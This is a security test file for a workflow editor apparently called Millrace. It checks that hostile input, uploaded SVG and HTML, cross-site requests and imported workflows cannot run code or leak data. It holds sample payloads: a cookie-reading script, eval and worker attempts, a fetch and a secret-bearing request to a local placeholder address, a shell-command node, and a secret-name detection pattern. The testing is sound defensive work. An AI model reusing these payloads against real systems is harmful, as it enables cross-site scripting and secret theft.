import { globSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { afterAll, expect, onTestFinished, test } from 'vitest'
import { checkout } from '../support/checkout.ts'
import { startMillrace } from '../support/start-millrace.ts'
import { temporaryDirectory } from '../support/temporary-directory.ts'
import { hostile, keepRefusals, traces } from './support/hostile.ts'
import { openContext, openTab } from './support/open-browser.ts'

const text = (where: string) => JSON.stringify(hostile(where))

const source = `id: trap
name: ${text('name')}
description: ${text('description')}
tags: [${text('tag')}]
triggers:
  called: { type: webhook, with: { path: /called, auth: none } }
  asked:
    type: form
    with: { path: /asked, title: Asked, description: ${text('question')}, fields: [{ name: answer, type: text, label: Answer, help: ${text('help')} }] }
nodes:
  say: { type: log, name: ${text('node')}, notes: ${text('remark')}, with: { message: "said {{ trigger }}", data: "{{ trigger }}" }, next: keep }
  keep: { type: set, with: { values: { ${text('key')}: "{{ trigger }}" } }, next: refuse }
  refuse: { type: stop, with: { status: failed, message: "{{ trigger.body.words ?? 'an answer' }}" } }
`
const at = { x: 40, y: -200, width: 240, height: 120 }
const layout = {
  notes: { one: { ...at, text: `# ${hostile('sticky')}\n\n${hostile('paragraph')}\n\n| ${hostile('cell')} |\n|---|\n| x |\n` } },
  groups: { one: { title: hostile('group').slice(0, 200), nodes: ['keep', 'refuse'] } },
}

const page = `id: page
name: Page
triggers: { asked: { type: webhook, with: { path: /page, method: GET, auth: none, respond: respond-node } } }
nodes:
  out:
    type: respond
    with:
      headers: { content-type: text/html }
      body: "<h1>Theirs</h1><script>document.title = 'ran ' + document.cookie; top.location = '/workflows'</script><iframe src='/workflows'></iframe>"
`
const order = `id: order
name: Order
nodes: { out: { type: log, with: { message: started } } }
`

const workflows = temporaryDirectory(afterAll)
const files = { 'trap.yaml': source, 'trap.layout.json': JSON.stringify(layout), 'page.yaml': page, 'order.yaml': order }
for (const [name, content] of Object.entries(files)) writeFileSync(join(workflows, name), content)
const { url, get } = await startMillrace({ workflows, dataDirectory: temporaryDirectory(afterAll), until: afterAll })

test('attack 49: no text that a stranger or a colleague wrote becomes a part of a page', async () => {
  await fetch(`${url}/webhook/called?${encodeURIComponent(hostile('query'))}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-said': hostile('header') },
    body: JSON.stringify({ words: hostile('body'), [hostile('field')]: [{ [hostile('column')]: hostile('inner') }] }),
  })
  const upload = new FormData()
  upload.set('words', hostile('part'))
  upload.set('file', new File([hostile('content')], `${hostile('file')}.svg`, { type: 'image/svg+xml' }))
  await fetch(`${url}/webhook/called`, { method: 'POST', body: upload })

  const context = await openContext()
  await keepRefusals(context)
  const page = await openTab(context, `${url}/form/asked`)
  await page.getByLabel('Answer').fill(hostile('answer'))
  await page.getByRole('button').click()
  await expect.poll(async () => (await get<{ items: readonly object[] }>('/executions?status=failed')).items.length).toBe(3)
  const { items } = await get<{ items: readonly { id: string }[] }>('/executions')
  expect(await traces(page)).toEqual([])

  await page.goto(`${url}/workflows`)
  await page.getByText('description <img').waitFor()
  expect(await traces(page)).toEqual([])
  await page.goto(`${url}/triggers`)
  await page
    .getByRole('button', { name: /called/ })
    .first()
    .click()
  await page.getByRole('region', { name: /called/ }).waitFor()
  expect(await traces(page)).toEqual([])
  await page.goto(`${url}/executions?search=inner`)
  await page.getByRole('grid').getByRole('row').nth(1).waitFor()
  expect(await traces(page)).toEqual([])

  await fetch(`${url}/api/v1/events`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'told', by: hostile('sender').slice(0, 200), data: { [hostile('name of data')]: hostile('data') } }),
  })
  for (const place of ['logs', 'logs/events']) {
    await page.goto(`${url}/${place}`)
    await page.getByRole('grid').press('Enter')
    await page.getByRole('region', { name: /^The (line|event)$/ }).waitFor()
    expect(await traces(page)).toEqual([])
  }

  await page.goto(`${url}/workflows/trap`)
  await page.getByText('sticky <img').waitFor()
  await page.getByText('group <img').waitFor()
  await page.getByRole('region', { name: 'Text' }).getByText('tags').waitFor()
  expect(await traces(page)).toEqual([])

  for (const [index, { id }] of items.entries()) {
    for (const step of index === 0 ? ['', 'say', 'keep', 'refuse'] : ['', 'keep']) {
      await page.goto(`${url}/executions/${id}?step=${step}`)
      for (const tab of await page.getByRole('tab').all()) {
        await tab.click()
        for (const look of await page
          .getByRole('tabpanel')
          .getByRole('button', { name: /^(Tree|Table|JSON)$/ })
          .all()) {
          await look.click()
          expect(await traces(page)).toEqual([])
        }
      }
    }
  }

  // What is looked for would be seen.
  await page.evaluate(() => document.body.setAttribute('data-evil', ''))
  expect(await traces(page)).toHaveLength(1)
})

/** Stands in a file of the editor itself, where nothing but the policy of the page holds it. */
const insider = `
const tries = {
  'markup from a text': () => { document.createElement('div').innerHTML = '<b>x</b>' },
  'a text as code': () => eval('1'),
  'a function from a text': () => new Function('return 1')(),
  'a timer with a text': () => setTimeout('globalThis.hacked = 1', 0),
  'the address of a script': () => { document.createElement('script').src = '/webhook/script' },
  'a policy of its own': () => globalThis.trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
  'a worker from a text': () => new Worker('data:text/javascript,0'),
  'a module from a text': () => import('data:text/javascript,0'),
  'what it knows, sent away': () => fetch('http://127.0.0.1:9/', { method: 'POST', body: 'x' }),
}
globalThis.went = Promise.all(Object.entries(tries).map(async ([name, act]) => {
  try { await act() } catch { return [] }
  return [name]
})).then((all) => all.flat())
`

test('attack 49: even a script of the page makes no markup or code of a text, and sends nothing away', async () => {
  const context = await openContext()
  await keepRefusals(context)
  await context.route(/\/assets\/index-[^/]+\.js$/, async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: insider + (await answer.text()) })
  })
  // No `openTab`: what the browser complains of here is what is wanted.
  const page = await context.newPage()
  await page.goto(`${url}/workflows`)
  await page.getByRole('heading', { name: 'Workflows', exact: true }).waitFor()
  expect(await page.evaluate(() => (globalThis as { went?: Promise<readonly string[]> }).went)).toEqual([])
  const refused = (await traces(page)).map((one) => one.split(' ')[0])
  expect(refused).toEqual(expect.arrayContaining(['require-trusted-types-for', 'trusted-types', 'script-src-elem', 'connect-src']))
})

test('attacks 50 and 51: pages that workflows answer with run nothing, and files are saved and not shown', async () => {
  const context = await openContext()
  const page = await context.newPage()
  await page.goto(`${url}/webhook/page`)
  await page.getByRole('heading', { name: 'Theirs' }).waitFor()
  expect([await page.title(), await page.evaluate(() => globalThis.origin)]).toEqual(['', 'null'])

  for (const [name, type] of [
    ['page.html', 'text/html'],
    ['picture.svg', 'image/svg+xml'],
    ['note.txt', 'text/xml'],
  ] as const) {
    const sent = await fetch(`${url}/api/v1/files?name=${name}`, {
      method: 'POST',
      headers: { 'content-type': type },
      body: `<svg xmlns="http://www.w3.org/2000/svg"><script>globalThis.hacked = 1</script></svg>`,
    })
    const { fileId } = (await sent.json()) as { fileId: string } // As the API documents it.
    const download = page.waitForEvent('download')
    await page.goto(`${url}/api/v1/files/${fileId}`).catch(() => undefined) // It ends with the download that is waited for.
    expect((await download).suggestedFilename()).toBe(name)
  }
})

/** What a page of another site may try, once it is open beside Millrace. */
async function tryFromOutside(url: string): Promise<readonly string[]> {
  const reached = async (name: string, act: () => Promise<unknown>) =>
    act().then(
      () => [name],
      () => [],
    )
  const socket = () =>
    new Promise((resolve, reject) => {
      const link = new WebSocket(`${url.replace('http', 'ws')}/api/v1/live`)
      link.onopen = resolve
      link.onerror = reject
    })
  const script = () =>
    new Promise((resolve, reject) => {
      const element = document.createElement('script')
      element.src = `${url}/api/v1/workflows`
      element.onload = resolve
      element.onerror = reject
      document.head.append(element)
    })
  const frame = document.createElement('iframe')
  frame.src = `${url}/workflows`
  document.body.append(frame)
  await new Promise((resolve) => {
    frame.onload = resolve
  })
  const start = `${url}/api/v1/workflows/order/run`
  // `no-cors` sends what a form could send, and never shows what came back: whether it did something is looked up afterwards.
  await fetch(start, { method: 'POST', mode: 'no-cors', body: '{}' }).catch(() => undefined)
  const all = [
    reached('reads', () => fetch(`${url}/api/v1/workflows`)),
    reached('starts', () => fetch(start, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })),
    reached('deletes', () => fetch(`${url}/api/v1/workflows/order`, { method: 'DELETE' })),
    reached('follows', socket),
    reached('loads as a script', script),
  ]
  return (await Promise.all(all)).flat()
}

test('attacks 45 and 52: a page of another site reads, starts, follows, frames and holds nothing', async () => {
  const outside = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>'))
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void outside.close())
  const address = outside.address()
  const context = await openContext()
  const page = await context.newPage()
  await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`)
  expect(await page.evaluate(tryFromOutside, url)).toEqual([])
  // A frame whose page was refused shows an error page of the browser.
  expect(page.frames().map((frame) => frame.url())).toEqual([page.url(), 'chrome-error://chromewebdata/'])
  const [opened] = await Promise.all([context.waitForEvent('page'), page.evaluate((to) => void globalThis.open(to), `${url}/workflows`)])
  await opened.getByRole('heading', { name: 'Workflows', exact: true }).waitFor()
  expect(await opened.evaluate(() => globalThis.opener)).toBe(null)
  expect(await get('/executions?workflow=order')).toMatchObject({ items: [] })
  expect(await get('/workflows/order')).toMatchObject({ id: 'order' })
})

const everySecond = `id: eager
name: ${text('eager')}
triggers:
  often: { type: schedule, with: { every: 1s } }
  called: { type: webhook, with: { path: /eager, auth: none } }
nodes:
  out: { type: http.request, with: { url: "http://127.0.0.1:9/{{ secrets.key }}" } }
`
const fromN8n = JSON.stringify({
  name: hostile('n8n'),
  nodes: [
    { id: '1', name: hostile('start'), type: 'n8n-nodes-base.webhook', typeVersion: 2, position: [0, 0], parameters: { path: 'eager' } },
    {
      id: '2',
      name: 'Then',
      type: 'n8n-nodes-base.executeCommand',
      typeVersion: 1,
      position: [200, 0],
      parameters: { command: '={{ $env.HOME }}' },
      notes: hostile('n8n note'),
    },
  ],
  connections: { [hostile('start')]: { main: [[{ node: 'Then', type: 'main', index: 0 }]] } },
})

test('attack 53: a workflow of somebody else runs nothing before somebody runs it', async () => {
  const context = await openContext()
  await keepRefusals(context)
  const page = await openTab(context, `${url}/workflows`)
  const written: string[] = []
  page.on('request', (request) => request.method() !== 'GET' && written.push(`${request.method()} ${new URL(request.url()).pathname}`))
  for (const [name, pasted] of [
    ['Eager', everySecond],
    ['Converted', fromN8n],
  ] as const) {
    await page.goto(`${url}/workflows`)
    await page.getByRole('button', { name: /^New workflow/ }).click()
    await page.getByRole('tab', { name: 'Paste or file' }).click()
    await page.getByRole('textbox', { name: /Workflow file/ }).fill(pasted)
    await page.getByRole('textbox', { name: 'Name' }).fill(name)
    expect(await traces(page)).toEqual([])
    await page.getByRole('button', { name: 'Create', exact: true }).click()
    await page.waitForURL('**/workflows/*')
    await page.getByRole('region', { name: 'Canvas' }).getByRole('group').first().waitFor()
    expect(await traces(page)).toEqual([])
    const id = new URL(page.url()).pathname.split('/').at(-1)
    expect(await get(`/executions?workflow=${id}`)).toMatchObject({ items: [] })
    expect(await get(`/triggers?workflow=${id}`)).toMatchObject({ items: [] })
  }
  expect(written.filter((one) => !/validate|import|edit$|draft$|scope|layout/.test(one))).toEqual([])
})

test('what the browser gets holds no source map, no path of the machine that built it, and no name of a secret', () => {
  const built = join(checkout, 'packages/editor/dist/app')
  const files = globSync('**/*', { cwd: built }).filter((path) => /\.(js|css|html|map)$/.test(path))
  expect(files.length).toBeGreaterThan(5)
  expect(files.filter((path) => path.endsWith('.map'))).toEqual([])
  for (const file of files) {
    const content = readFileSync(join(built, file), 'utf8')
    expect(content.includes('sourceMappingURL='), file).toBe(false)
    expect(content.includes(checkout), file).toBe(false)
    expect(/MILLRACE_ENCRYPTION_KEY|DATABASE_URL|BEGIN [A-Z ]*PRIVATE KEY/.test(content), file).toBe(false)
  }
})
